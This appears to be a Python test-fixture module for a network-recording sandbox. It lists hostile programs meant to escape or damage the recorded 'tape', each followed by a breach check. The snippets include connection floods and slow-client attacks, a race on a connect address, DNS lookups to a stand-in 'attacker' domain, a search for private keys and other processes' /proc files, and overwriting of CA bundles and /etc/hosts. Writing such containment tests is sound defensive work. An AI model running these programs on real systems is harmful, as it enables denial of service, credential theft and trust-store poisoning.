# ruff: noqa: E501 - programs keep their lines
"""Programs that turn on the tape, by the connections to it and by what is read in the place of files.

Each of them ends by asking whether the tape still serves: one that does not has been hurt.
"""

from __future__ import annotations

import sys
from dataclasses import replace
from textwrap import dedent

from .model import Attempt, Hostile, hostile

_URLS = ("http://api.example.com/a", "https://api.example.com/b", "http://api.example.com/last")
_ANSWER = {"status": 200, "headers": [], "content": {"text": "recorded"}}
_RECORDED = {
    "log": {"entries": [{"request": {"method": "GET", "url": url}, "response": _ANSWER} for url in _URLS]}
}
_BEFORE = """
    import ctypes, os, socket, struct, sys, threading, time, urllib.request
    def plain(port=80): return socket.create_connection(("api.example.com", port))
"""
_AFTER = """
    if urllib.request.urlopen("http://api.example.com/last").read() != b"recorded": print("BREACH: the tape is gone")
"""


def _against(name: str, source: str, on_record: Attempt | None = None, classes: str = "ok") -> Hostile:
    """A program that finds recorded calls."""
    text = (dedent(_BEFORE) + dedent(source) + dedent(_AFTER)).replace("@PREFIX", sys.prefix)
    return replace(hostile(name, text, on_record, classes), recorded=_RECORDED)


SNIPPETS = [
    _against(
        "garbage for the tape",
        """
        for port in (80, 443):
            s = plain(port)
            try:
                for _ in range(20): s.sendall(b"x" + os.urandom(65536))
                while s.recv(4096): pass
            except OSError: pass
        """,
        ("network", "api.example.com:443"),
    ),
    _against(
        "a head without end for the tape",
        """
        s = plain()
        try:
            s.sendall(b"GET / HTTP/1.1\\r\\n")
            while True: s.sendall(b"X-Y: " + b"z" * 1000 + b"\\r\\n")
        except OSError: pass
        """,
        ("network", "api.example.com:80"),
    ),
    _against(
        "a body without end for the tape",
        """
        s = plain()
        try:
            s.sendall(b"POST / HTTP/1.1\\r\\nHost: a\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
            while True: s.sendall(b"10000\\r\\n" + b"z" * 65536 + b"\\r\\n")
        except OSError: pass
        """,
        ("network", "api.example.com:80"),
    ),
    _against(
        "hundreds of slow clients of the tape",
        """
        slow = []
        for n in range(200):
            slow.append(plain(443 if n % 2 else 80))
            slow[-1].sendall(b"\\x16" if n % 2 else b"GET /a HT")
        for s in slow:
            try: s.sendall(b"\\x03")
            except OSError: pass
        """,
    ),
    _against(
        "calls of the tape by the thousand, and no answer is read",
        """
        s = plain()
        s.settimeout(1)
        try:
            while True: s.send(b"GET /a HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n" * 1000)
        except OSError: pass
        """,
        ("network", "GET http://api.example.com/a"),
    ),
    _against(
        "TLS in pieces for the tape",
        """
        import ssl
        for cut in (1, 5, 50, 200):
            into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = ssl.create_default_context().wrap_bio(into, out, server_hostname="api.example.com")
            try: tls.do_handshake()
            except ssl.SSLWantReadError: pass
            hello = out.read()
            s = plain(443)
            s.sendall(hello[:cut]); time.sleep(0.02); s.sendall(os.urandom(300)); s.close()
        """,
    ),
    _against(
        "descriptors sent to the tape",
        """
        s = plain()
        try:
            for _ in range(50): socket.send_fds(s, [b"x"], [0, s.fileno()])
        except OSError: pass
        """,
    ),
    _against(
        "the tape's connection led elsewhere",
        """
        libc = ctypes.CDLL(None)
        for target in (("127.0.0.1", {port}), ("8.8.8.8", 53)):
            s = plain()
            libc.connect(s.fileno(), bytes(16), 16)  # AF_UNSPEC: disconnected
            try: s.connect(target); print("BREACH", target)
            except OSError: pass
            s = plain()
            libc.connect(s.fileno(), bytes(16), 16)
            try: s.sendto(b"x", socket.MSG_FASTOPEN, target); print("BREACH", target)
            except OSError: pass
        """,
        ("network", "8.8.8.8:53"),
    ),
    _against(
        "an address that changes while the tape's is looked at",
        """
        libc = ctypes.CDLL(None)
        family = struct.pack("=H", socket.AF_INET)
        recorded = family + struct.pack("!H4s8x", 80, socket.inet_aton(socket.gethostbyname("api.example.com")))
        wanted = family + struct.pack("!H4s8x", {port}, socket.inet_aton("127.0.0.1"))
        buffer, ends = ctypes.create_string_buffer(16), time.monotonic() + 0.5
        def change():
            while time.monotonic() < ends: buffer.raw = wanted; buffer.raw = recorded
        thread = threading.Thread(target=change); thread.start()
        while time.monotonic() < ends:
            with socket.socket() as s: libc.connect(s.fileno(), buffer, 16)
        thread.join()
        """,
    ),
    _against(
        "thousands of names beside those of the tape",
        """
        for n in range(2000):
            name = b"n%d" % n
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.connect(("127.0.0.1", 53))
                s.send(struct.pack("!6H", n, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\\x08attacker\\x00\\x00\\x01\\x00\\x01")
                s.recv(512)
        """,
        ("network", "n7.attacker:53"),
    ),
    _against(
        "the tape's key",
        """
        places = [os.environ["HOME"], os.environ.get("TMPDIR", "/tmp"), "/dev/shm", "/etc/ssl", os.path.dirname(os.environ["SSL_CERT_FILE"])]
        for place in places:
            for directory, inner, names in os.walk(place):
                if directory.endswith("@PREFIX"):  # libraries, of a checkout below /tmp
                    inner.clear()
                    continue
                for name in names:
                    try: text = open(os.path.join(directory, name), "rb").read(1 << 20)
                    except OSError: continue
                    if b"PRIVATE KEY" in text: print("BREACH", directory, name)
        for pid in (1, os.getppid(), *range(2, 40)):
            if pid in (0, os.getpid()): continue
            for name in ("mem", "maps", "environ", "fd/3"):
                try: open(f"/proc/{pid}/{name}", "rb").read(1); print("BREACH", pid, name)
                except OSError: pass
        """,
        classes="ok",
    ),
    _against(
        "a signal to whoever holds the tape's other end",
        """
        import signal
        for s in (plain(), socket.socket(fileno=os.dup(900))):
            try: signal.pidfd_send_signal(s.getsockopt(socket.SOL_SOCKET, 77), 9)  # SO_PEERPIDFD
            except OSError: pass
            try: os.kill(struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0] or 1, 9)
            except OSError: pass
        """,
        classes="unsafe_operation",
    ),
    _against(
        "other roots for the runs after it",
        """
        import certifi
        for place in (certifi.where(), "/etc/ssl/certs/ca-certificates.crt"):
            given = os.open(place, os.O_RDONLY)
            try:
                again = os.open(f"/proc/self/fd/{given}", os.O_RDWR)
                os.write(again, b"evil"); print("BREACH", place)
            except OSError: pass
        """,
    ),
    hostile(
        "the roots after that",
        """
        import certifi
        for place in (certifi.where(), "/etc/ssl/certs/ca-certificates.crt"):
            if open(place).read().count("BEGIN CERTIFICATE") < 50: print("BREACH", place)
        """,
        classes="ok",
    ),
    hostile(
        "other hosts for the runs after it",
        """
        import os
        for place in ("/etc/hosts", "/etc/resolv.conf"):
            given = os.open(place, os.O_RDONLY)
            try:
                again = os.open(f"/proc/self/fd/{given}", os.O_RDWR)
                os.write(again, b"6.6.6.6 evil"); print("BREACH", place)
            except OSError: pass
        """,
    ),
    hostile(
        "the hosts after that",
        """
        for place in ("/etc/hosts", "/etc/resolv.conf"):
            if "evil" in open(place).read(): print("BREACH", place)
        """,
        classes="ok",
    ),
]
